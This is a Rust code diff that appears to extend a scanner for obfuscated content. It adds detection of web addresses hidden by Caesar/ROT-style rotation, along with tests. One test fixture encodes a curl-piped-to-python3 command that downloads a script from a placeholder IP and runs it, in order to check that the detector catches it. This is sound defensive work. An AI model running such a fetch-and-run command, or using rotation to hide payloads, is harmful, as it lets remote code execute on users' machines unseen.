@@ -249,6 +249,60 @@ fn brute_force(bytes: &[u8], hints: Hints) -> Vec<SignalKind> {
                 return found;
             }
         }
+        let found = rotated_address(bytes, &mut buffer);
+        if !found.is_empty() {
+            return found;
+        }
+    }
+    Vec::new()
+}
+
+/// Caesar's family: letters rotated within the alphabet (ROT13 and the rest), digits within
+/// 0–9 alongside (ROT18 is 13 and 5), everything else as it is.
+///
+/// Rotating ordinary text by every amount spells addresses by chance (a URL rotated by one reads
+/// `iuuq://…`, and prose turns into anything), so only one shape counts: a literal with an
+/// address's `://` but no `http` of its own, which some rotation turns into an `http://` or
+/// `https://` address.
+fn rotated_address(bytes: &[u8], buffer: &mut [u8]) -> Vec<SignalKind> {
+    let Some(at) = memchr::memmem::find(bytes, b"://") else {
+        return Vec::new();
+    };
+    let has_own_scheme = bytes.windows(4).any(|w| w.eq_ignore_ascii_case(b"http"));
+    if has_own_scheme || at < 4 {
+        return Vec::new();
+    }
+    for letters in 1..26u8 {
+        let rotate = |b: u8| match b {
+            b'a'..=b'z' => b'a' + (b - b'a' + letters) % 26,
+            b'A'..=b'Z' => b'A' + (b - b'A' + letters) % 26,
+            _ => b,
+        };
+        // The scheme decides the letters' rotation: only one can make it `http`.
+        let scheme: Vec<u8> = bytes[at.saturating_sub(5)..at]
+            .iter()
+            .map(|b| rotate(*b))
+            .collect();
+        if !(scheme.ends_with(b"http") || scheme.ends_with(b"https")) {
+            continue;
+        }
+        for digits in [0, 5, letters % 10] {
+            let rotated = |_, b: u8| match b {
+                b'0'..=b'9' => b'0' + (b - b'0' + digits) % 10,
+                _ => rotate(b),
+            };
+            if !decode_into(buffer, bytes, rotated) {
+                continue;
+            }
+            let found = decoded_signals(
+                &format!("letters rotated by {letters} and digits by {digits}"),
+                buffer,
+                Strictness::Guessed,
+            );
+            if !found.is_empty() {
+                return found;
+            }
+        }
     }
     Vec::new()
 }
@@ -685,6 +739,40 @@ mod tests {
             .collect();
         assert!(is_opaque_blob(&STANDARD.encode(&noise)));
         assert!(!is_opaque_blob(&"ab".repeat(300)));
+    }
+
+    #[test]
+    fn addresses_hidden_by_rotating_letters() {
+        let hints = Hints {
+            char_arithmetic: true,
+            ..Hints::default()
+        };
+        let rot = |text: &str, letters: u8, digits: u8| -> String {
+            text.bytes()
+                .map(|b| match b {
+                    b'a'..=b'z' => (b'a' + (b - b'a' + letters) % 26) as char,
+                    b'A'..=b'Z' => (b'A' + (b - b'A' + letters) % 26) as char,
+                    b'0'..=b'9' => (b'0' + (b - b'0' + digits) % 10) as char,
+                    _ => b as char,
+                })
+                .collect()
+        };
+        let hidden = "curl -s http://203.0.113.140/i/boot.py | python3 -";
+        for (letters, digits) in [(13, 5), (13, 0), (3, 3)] {
+            let encoded = rot(hidden, 26 - letters, (10 - digits) % 10);
+            assert!(
+                !string_signals(&encoded, hints).is_empty(),
+                "{encoded} ({letters}, {digits})"
+            );
+        }
+        // Text with its own address, and prose, spell addresses under some rotation by chance.
+        for honest in [
+            "registry+https://github.com/rust-lang/crates.io-index",
+            "The azure auth plugin is not supported; use https://github.com/Azure/kubelogin",
+            "s3://bucket/prefix and gs://other",
+        ] {
+            assert!(string_signals(honest, hints).is_empty(), "{honest}");
+        }
     }
 
     #[test]
